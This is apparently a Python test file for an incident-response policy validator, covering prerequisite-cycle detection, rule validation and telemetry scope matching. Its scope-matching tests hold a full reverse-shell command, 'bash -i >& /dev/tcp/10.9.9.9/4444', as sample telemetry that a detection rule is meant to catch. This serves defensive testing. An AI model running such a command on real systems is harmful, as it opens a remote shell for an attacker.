"""Catalog and policy validation, scope predicate semantics."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planvet.catalog import (
    ActionCatalog,
    ActionEntry,
    PolicyRule,
    ScopePredicate,
    load_policy,
    scope_matches,
    validate_policy,
)
from planvet.corpus import TelemetryEvent
from planvet.errors import (
    CatalogError,
    CyclicPolicy,
    DuplicateRuleId,
    FamilyFieldMismatch,
    SelfDependency,
    UnknownActionReference,
)
from planvet.util import sha256_text


def _catalog(*ids: str) -> ActionCatalog:
    return ActionCatalog(
        tuple(ActionEntry(i, i, approval_gate=False, reversible=True, baseline_support=False) for i in ids)
    )


def _order_rule(rule_id: str, prereq: str, target: str) -> PolicyRule:
    return PolicyRule(rule_id, "prohibit_before", target, "hard", "insert_before",
                      prerequisite_action=prereq)


# -- independent cycle oracle (plain DFS, written apart from the engine) -----

def has_cycle(edges: list[tuple[str, str]]) -> bool:
    graph: dict[str, list[str]] = {}
    for a, b in edges:
        graph.setdefault(a, []).append(b)
    visited: set[str] = set()
    on_path: set[str] = set()

    def dfs(node: str) -> bool:
        visited.add(node)
        on_path.add(node)
        for nxt in graph.get(node, ()):
            if nxt in on_path:
                return True
            if nxt not in visited and dfs(nxt):
                return True
        on_path.discard(node)
        return False

    return any(dfs(n) for n in list(graph) if n not in visited)


# ---------------------------------------------------------------------------

class TestValidatePolicy:
    def test_official_policy_has_one_prerequisite_edge(self, policy):
        assert policy.prerequisite_edges == (("collect_forensics", "restore_host"),)
        assert len(policy.catalog) == 5
        assert [r.rule_id for r in policy.rules] == ["R1", "R2", "R3", "R4"]

    def test_empty_rule_list_gives_empty_graph(self, catalog):
        validated = validate_policy(catalog, [])
        assert validated.prerequisite_edges == ()
        assert validated.rules == ()

    def test_two_rule_cycle_is_named(self):
        catalog = _catalog("a", "b")
        rules = [_order_rule("r1", "a", "b"), _order_rule("r2", "b", "a")]
        with pytest.raises(CyclicPolicy) as exc:
            validate_policy(catalog, rules)
        cycle = exc.value.cycle
        assert cycle[0] == cycle[-1]
        assert set(cycle) == {"a", "b"}

    def test_cycle_is_named_from_the_first_node_in_sorted_order(self):
        catalog = _catalog("a", "b", "c")
        rules = [_order_rule("r1", "b", "c"), _order_rule("r2", "c", "a"), _order_rule("r3", "a", "b")]
        with pytest.raises(CyclicPolicy, match=r"^prerequisite graph contains a cycle: a -> b -> c -> a$") as exc:
            validate_policy(catalog, rules)
        assert exc.value.cycle == ("a", "b", "c", "a")

    def test_self_dependency_rejected(self):
        catalog = _catalog("a")
        with pytest.raises(SelfDependency):
            validate_policy(catalog, [_order_rule("r1", "a", "a")])

    def test_unknown_target(self):
        with pytest.raises(UnknownActionReference):
            validate_policy(_catalog("a"), [_order_rule("r1", "a", "missing")])

    def test_unknown_prerequisite(self):
        with pytest.raises(UnknownActionReference):
            validate_policy(_catalog("a"), [_order_rule("r1", "missing", "a")])

    def test_duplicate_rule_id(self):
        catalog = _catalog("a", "b", "c")
        rules = [_order_rule("r1", "a", "b"), _order_rule("r1", "a", "c")]
        with pytest.raises(DuplicateRuleId):
            validate_policy(catalog, rules)

    def test_mandatory_rule_with_prerequisite_rejected(self):
        catalog = _catalog("a", "b")
        rule = PolicyRule(
            "r1", "mandatory", "a", "hard", "insert",
            prerequisite_action="b", scope=ScopePredicate("x"),
        )
        with pytest.raises(FamilyFieldMismatch):
            validate_policy(catalog, [rule])

    def test_mandatory_rule_without_scope_rejected(self):
        rule = PolicyRule("r1", "mandatory", "a", "hard", "insert")
        with pytest.raises(FamilyFieldMismatch):
            validate_policy(_catalog("a"), [rule])

    def test_operator_constrained_by_family(self):
        rule = PolicyRule("r1", "require_approval", "a", "hard", "insert")
        with pytest.raises(FamilyFieldMismatch):
            validate_policy(_catalog("a"), [rule])

    def test_validation_is_deterministic(self, bundle):
        first = load_policy(bundle / "catalog.json", bundle / "policy.json")
        second = load_policy(bundle / "catalog.json", bundle / "policy.json")
        assert first.canonical() == second.canonical()

    @pytest.mark.parametrize(
        "catalog_name, policy_name, digest_prefix",
        [
            ("catalog.json", "policy.json", "06a922395577a6ff"),
            ("richer/candidate_catalog.json", "richer/candidate_policy.json", "55be884f964c2ba8"),
        ],
    )
    def test_canonical_bytes_are_pinned(self, bundle, catalog_name, policy_name, digest_prefix):
        policy = load_policy(bundle / catalog_name, bundle / policy_name)
        assert sha256_text(policy.canonical()).startswith(digest_prefix)

    def test_catalog_rejects_bad_tokens(self):
        with pytest.raises(CatalogError):
            _catalog("Not_Snake")
        with pytest.raises(CatalogError):
            _catalog("a", "a")

    @settings(max_examples=200, deadline=None)
    @given(st.lists(
        st.tuples(st.integers(0, 5), st.integers(0, 5)).filter(lambda e: e[0] != e[1]),
        max_size=10,
    ))
    def test_cycle_decision_matches_dfs_oracle(self, raw_edges):
        ids = [f"n{i}" for i in range(6)]
        catalog = _catalog(*ids)
        edges = [(ids[a], ids[b]) for a, b in raw_edges]
        rules = [_order_rule(f"r{i:02d}", a, b) for i, (a, b) in enumerate(edges)]
        try:
            validated = validate_policy(catalog, rules)
            accepted = True
        except CyclicPolicy as exc:
            accepted = False
            cycle = exc.cycle  # a closed path along declared edges, named in the message
            assert cycle[0] == cycle[-1] and set(zip(cycle, cycle[1:])) <= set(edges)
            assert str(exc).endswith(" -> ".join(cycle))
        assert accepted == (not has_cycle(edges))
        if accepted:
            # accepted policies admit a topological order
            assert not has_cycle(list(validated.prerequisite_edges))


# ---------------------------------------------------------------------------

class TestLookups:
    def test_catalog_membership_and_get(self):
        catalog = _catalog("isolate_host", "open_ticket")
        assert "open_ticket" in catalog and "close_ticket" not in catalog
        assert catalog.get("isolate_host").action_id == "isolate_host"
        with pytest.raises(KeyError):
            catalog.get("close_ticket")

    def test_non_string_is_never_a_member(self):
        catalog = _catalog("isolate_host")
        assert ["isolate_host"] not in catalog
        assert None not in catalog

    def test_non_string_rule_target_is_an_unknown_reference(self):
        rule = PolicyRule("R1", "require_approval", ["isolate_host"], "hard", "remove")
        with pytest.raises(UnknownActionReference):
            validate_policy(_catalog("isolate_host"), [rule])

    def test_compiled_rule_tables_ascend_by_rule_id(self):
        catalog = _catalog("a", "b", "c")
        rules = [
            PolicyRule("M2", "mandatory", "a", "hard", "insert", scope=ScopePredicate("x")),
            _order_rule("R9", "a", "c"),
            PolicyRule("R5", "require_approval", "c", "hard", "remove"),
            _order_rule("R2", "b", "c"),
            PolicyRule("M1", "mandatory", "b", "hard", "insert", scope=ScopePredicate("y")),
            PolicyRule("R1", "require_approval", "c", "hard", "remove"),
            _order_rule("R3", "a", "b"),
        ]
        policy = validate_policy(catalog, rules)
        assert [r.rule_id for r in policy.mandatory_rules] == ["M1", "M2"]
        assert {t: [r.rule_id for r in rs] for t, rs in policy.order_rules.items()} == {
            "b": ["R3"], "c": ["R2", "R9"],
        }
        # Of two approval rules on one action the lowest id wins.
        assert {t: r.rule_id for t, r in policy.approval_rules.items()} == {"c": "R1"}
        assert set(policy.rules_by_id) == {r.rule_id for r in rules}
        assert policy.rules == tuple(rules)


class TestScopeMatches:
    def _reverse_shell_rule(self, policy):
        return next(r for r in policy.rules if r.rule_id == "R1")

    def test_reverse_shell_pattern_matches(self, policy):
        # hand trace: event type contains the scoped token and the command
        # carries one of the two listed substrings
        rule = self._reverse_shell_rule(policy)
        event = TelemetryEvent(
            event_type="command_execution",
            command="bash -i >& /dev/tcp/10.9.9.9/4444",
        )
        assert scope_matches(rule, [event]) is True

    def test_empty_telemetry_never_matches(self, policy):
        assert scope_matches(self._reverse_shell_rule(policy), []) is False

    def test_benign_command_does_not_match(self, policy):
        rule = self._reverse_shell_rule(policy)
        event = TelemetryEvent(event_type="command_execution", command="ls -la")
        assert scope_matches(rule, [event]) is False

    def test_conjunction_binds_per_event(self, policy):
        # the event type and command substrings must hit the same event
        rule = self._reverse_shell_rule(policy)
        events = [
            TelemetryEvent(event_type="command_execution", command="ls"),
            TelemetryEvent(event_type="file_write", command="bash -i"),
        ]
        assert scope_matches(rule, events) is False

    def test_empty_command_list_matches_any_command(self):
        rule = PolicyRule(
            "m1", "mandatory", "a", "hard", "insert", scope=ScopePredicate("alert"),
        )
        assert scope_matches(rule, [TelemetryEvent(event_type="edr_alert")]) is True

    def test_matching_is_case_sensitive(self, policy):
        rule = self._reverse_shell_rule(policy)
        event = TelemetryEvent(event_type="Command_Execution", command="bash -i")
        assert scope_matches(rule, [event]) is False

    @settings(max_examples=100, deadline=None)
    @given(
        st.lists(st.sampled_from(["command_execution", "file_write", "edr_alert"]), max_size=6),
        st.lists(st.sampled_from(["bash -i", "ls -la", "/dev/tcp/1.2.3.4"]), max_size=6),
    )
    def test_monotone_in_telemetry(self, policy, types, commands):
        rule = self._reverse_shell_rule(policy)
        events = [
            TelemetryEvent(event_type=t, command=c)
            for t, c in zip(types, commands)
        ]
        before = scope_matches(rule, events)
        extended = events + [TelemetryEvent(event_type="command_execution", command="bash -i")]
        assert scope_matches(rule, extended) is True
        if before:
            assert scope_matches(rule, events + [TelemetryEvent(event_type="noise")])
